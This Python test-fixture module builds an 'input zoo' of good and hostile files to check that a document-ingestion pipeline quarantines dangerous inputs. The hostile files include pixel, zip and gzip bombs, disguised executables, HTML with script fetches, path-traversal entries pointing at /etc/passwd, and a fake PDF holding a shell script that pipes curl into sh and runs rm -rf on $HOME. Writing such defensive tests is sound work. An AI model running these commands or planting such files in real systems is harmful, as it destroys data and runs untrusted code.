"""The input zoo: every hostile input the issue lists, generated at test time, beside good ones.

Each entry says what must become of it: `published` (its doc_id serves afterwards) or
`quarantined` with words its reason must hold (None: any non-empty reason; the wording of a
refusal another stage owns is not pinned here). Nothing of it is copied from elsewhere.
"""
from __future__ import annotations

import gzip
import io
import json
import struct
import zipfile
import zlib
from dataclasses import dataclass
from pathlib import Path

import pymupdf

from flows.make_sample import alto_xml, digital_pdf, encrypted_pdf, source_text
from schemas.settings import InspectionLimits
from tests.fixtures import make_samples as fx

GOOD_TEXT = ("Délibération du conseil municipal. Le conseil vote la réparation du toit de l'école "
             "et l'achat de deux poêles pour la salle de classe. La séance est levée à sept heures.")


@dataclass(frozen=True)
class Case:
    name: str  # path inside the zoo folder
    data: bytes
    outcome: str  # "published" | "quarantined"
    reason: str | None = None  # words the quarantine reason holds
    doc_id: str | None = None  # for published cases: the id it serves under


def png_chunk(kind: bytes, body: bytes) -> bytes:
    return struct.pack(">I", len(body)) + kind + body + struct.pack(">I", zlib.crc32(kind + body))


def pixel_bomb_png(width: int = 100_000, height: int = 100_000) -> bytes:
    """A valid PNG header announcing 10¹⁰ pixels, with a few bytes of data: decoding it would
    need 10 GB; the header alone must be enough to refuse it."""
    header = struct.pack(">IIBBBBB", width, height, 1, 0, 0, 0, 0)  # 1-bit greyscale
    row = b"\x00" + bytes((width + 7) // 8)
    return (b"\x89PNG\r\n\x1a\n" + png_chunk(b"IHDR", header)
            + png_chunk(b"IDAT", zlib.compress(row * 8, 9)) + png_chunk(b"IEND", b""))


def zip_bomb() -> bytes:
    """A plain .zip (not a Word document) whose one member inflates a thousandfold."""
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as archive:
        archive.writestr("bombe.txt", b"0" * 50_000_000)
    return out.getvalue()


def broken_xref_pdf() -> bytes:
    """A good PDF whose cross-reference offsets all point to the wrong place (pymupdf repairs it
    from the objects themselves: the text is still there and is read)."""
    data = bytearray(digital_pdf([GOOD_TEXT]))
    start = data.rindex(b"startxref")
    xref = int(data[start + 9:].split()[0])
    table = data[xref:start]
    broken = bytes(table).replace(b" 00000 n", b" 00000 n").translate(bytes.maketrans(b"123456789", b"987654321"))
    data[xref:start] = broken[:len(table)]
    return bytes(data)


def truncated_pdf() -> bytes:
    data = digital_pdf([source_text("lettre-prefet-1871"), GOOD_TEXT])
    return data[: len(data) // 3]


def many_pages_pdf(pages: int) -> bytes:
    doc = pymupdf.open()
    for _ in range(pages):
        doc.new_page(width=200, height=200)
    return doc.tobytes(garbage=3, deflate=True)


def giant_blank_page_pdf(inches: int = 200) -> bytes:
    doc = pymupdf.open()
    doc.new_page(width=inches * 72, height=inches * 72)
    return doc.tobytes()


def elf_executable() -> bytes:
    return b"\x7fELF\x02\x01\x01\x00" + bytes(8) + b"\x02\x00\x3e\x00" + bytes(200)


def shell_script() -> bytes:
    return b"#!/bin/sh\ncurl -s http://127.0.0.1:9/x | sh\nrm -rf \"$HOME\"\n"


def html_with_scripts(resource_base: str) -> bytes:
    """Scripts, a stylesheet, an image, an iframe and a meta refresh, every one pointing at
    `resource_base` (a loopback server that counts requests): none may be fetched or run."""
    return (f"<!DOCTYPE html><html><head><meta charset='utf-8'><title>Avis</title>"
            f"<meta http-equiv='refresh' content='0; url={resource_base}/refresh'>"
            f"<script src='{resource_base}/script.js'></script>"
            f"<link rel='stylesheet' href='{resource_base}/style.css'></head><body>"
            f"<h1>Avis de la mairie</h1><p>Le marché du jeudi est transféré place de l'Église.</p>"
            f"<img src='{resource_base}/image.png' alt='La place'>"
            f"<iframe src='{resource_base}/frame.html'></iframe>"
            f"<script>fetch('{resource_base}/fetch'); document.write('injecté')</script>"
            f"<p>Ouverture à sept heures, fermeture à midi.</p></body></html>").encode()


def alto_invalid_xml() -> bytes:
    return (b'<?xml version="1.0"?><alto xmlns="http://www.loc.gov/standards/alto/ns-v4#">'
            b'<Layout><Page WIDTH="100" HEIGHT="100"><PrintSpace><TextBlock><TextLine>'
            b'<String CONTENT="tronqu')


def alto_outside_page() -> bytes:
    """Words whose boxes lie outside the page (negative, and far past its width and height)."""
    text = alto_xml(GOOD_TEXT, page_width=1000, page_height=1400)
    return (text.replace('HPOS="', 'HPOS="-', 3).replace('VPOS="', 'VPOS="9', 5)).encode()


def gzip_bomb(inflated: int = InspectionLimits().max_bytes + 1) -> bytes:
    """A gzipped ALTO head, then 1 MiB members of spaces: past the size limit once inflated, in
    a few hundred kilobytes (concatenated members are one gzip stream)."""
    member = gzip.compress(b" " * (1 << 20), compresslevel=9)
    return gzip.compress(fx.alto()[:200]) + member * (inflated // (1 << 20) + 1)


def jsonl_export() -> bytes:
    lines = [
        json.dumps({"doc_id": "zoo-record-1", "corpus": "registres", "date": "1887-03-02",
                    "text": "Le maire expose que le chemin vicinal du hameau est impraticable."}),
        '{"doc_id": "zoo-record-bad", "text": "une ligne tronquée',  # line 2: not JSON
        json.dumps({"doc_id": "zoo-record-2", "corpus": "registres", "date": "1887-02-30",
                    "text": "Date impossible."}),  # line 3: not a calendar date
        "[" * 50_000,  # line 4: nested too deeply
        json.dumps({"doc_id": "zoo-record-3", "corpus": "registres",
                    "text": "Le conseil vote l'achat d'une pompe à incendie."}),
        json.dumps({"doc_id": "zoo-record-1", "corpus": "registres",
                    "text": "Même identifiant, autre texte."}),  # line 6: duplicate doc_id
    ]
    return ("\n".join(lines) + "\n").encode()


def sidecar(rows: list[dict]) -> bytes:
    return json.dumps(rows, ensure_ascii=False).encode()


def cases(resource_base: str) -> list[Case]:
    latin1 = ("Procès-verbal de la séance du conseil: l'école, la mairie et le lavoir. "
              "Dépense approuvée à l'unanimité.")
    return [
        # good inputs: the rest of the batch, which must be published
        Case("bons/lettre.pdf", digital_pdf([source_text("lettre-prefet-1871")]), "published",
             doc_id="bons/lettre"),
        Case("bons/deliberation.txt", GOOD_TEXT.encode(), "published", doc_id="bons/deliberation"),
        Case("bons/latin1.txt", latin1.encode("latin-1"), "published", doc_id="bons/latin1"),
        Case("bons/utf16.txt", latin1.encode("utf-16"), "published", doc_id="bons/utf16"),
        Case("bons/cp1252.txt", "Reçu 12 € pour l’école — « quittance ».".encode("cp1252"),
             "published", doc_id="bons/cp1252"),
        Case("bons/journal.xml", fx.alto(), "published", doc_id="bons/journal"),
        Case("bons/avis.html", html_with_scripts(resource_base), "published", doc_id="bons/avis"),
        Case("bons/xref-casse.pdf", broken_xref_pdf(), "published", doc_id="bons/xref-casse"),
        Case("bons/hors-page.xml", alto_outside_page(), "published", doc_id="bons/hors-page"),
        Case("bons/page-0001.xml.gz", gzip.compress(fx.alto("affiche-1848")), "published", doc_id="bons/page-0001"),
        Case("export.jsonl", jsonl_export(), "published", doc_id="zoo-record-1"),
        # hostile inputs
        Case("pdf/confidentiel.pdf", encrypted_pdf(GOOD_TEXT), "quarantined", "encrypted PDF"),
        Case("pdf/tronque.pdf", truncated_pdf(), "quarantined"),
        Case("pdf/vide.pdf", b"", "quarantined", "empty file (0 bytes)"),
        Case("pdf/trois-mille-pages.pdf", many_pages_pdf(3000), "quarantined",
             "3000 pages exceeds the limit"),
        Case("pdf/page-geante.pdf", giant_blank_page_pdf(), "quarantined"),
        Case("pdf/programme.pdf", elf_executable(), "quarantined", "disguised file"),
        Case("pdf/script.pdf", shell_script(), "quarantined", "disguised file"),
        Case("pdf/javascript.pdf", fx.pdf_with_javascript(), "quarantined", "active content"),
        Case("images/bombe.png", pixel_bomb_png(), "quarantined", "image bomb: its header announces 10000000000 pixels"),
        Case("images/tronquee.png", fx.straight_scan("PNG")[:4000], "quarantined", "malformed image"),
        Case("docx/bombe.docx", fx.docx_bomb(), "quarantined", "zip bomb"),
        Case("docx/macros.docx", fx.docx_with_macros(), "quarantined", "active content"),
        Case("archives/bombe.zip", zip_bomb(), "quarantined", "archives are not unpacked"),
        Case("alto/invalide.xml", alto_invalid_xml(), "quarantined", "malformed ALTO XML"),
        Case("alto/entites.xml", fx.alto_with_entities(), "quarantined", "<!DOCTYPE> declaration"),
        Case("alto/bombe.xml.gz", gzip_bomb(), "quarantined", "gzip bomb: inflates beyond the limit"),
        Case("alto/tronque.xml.gz", gzip.compress(fx.alto())[:1000], "quarantined",
             "corrupt gzip: the compressed stream is truncated"),
        Case("doublons/a.txt", b"Premier texte du doublon.", "published", doc_id="doublon"),
        Case("doublons/b.txt", b"Second texte, meme identifiant.", "quarantined", "duplicate doc_id 'doublon'"),
        Case("doublons/sidecar.json", sidecar([
            {"file": "a.txt", "doc_id": "doublon"}, {"file": "b.txt", "doc_id": "doublon"},
            {"file": "../../../../etc/passwd", "doc_id": "passwd"},
            {"file": "/etc/hostname", "doc_id": "hostname"}]), "ignored"),
    ]


# JSONL lines of export.jsonl that must be quarantined, with the words of their reasons
JSONL_REFUSED = {2: "not valid JSON", 3: "not a calendar date", 4: "nested too deeply",
                 6: "duplicate doc_id 'zoo-record-1' (first on line 1)"}
SIDECAR_REFUSED = {"../../../../etc/passwd": "must be a path inside the folder",
                   "/etc/hostname": "must be a path inside the folder"}


def write_zoo(folder: Path, resource_base: str) -> list[Case]:
    made = cases(resource_base)
    for case in made:
        path = folder / case.name
        path.parent.mkdir(parents=True, exist_ok=True)
        path.write_bytes(case.data)
    return [c for c in made if c.outcome != "ignored"]
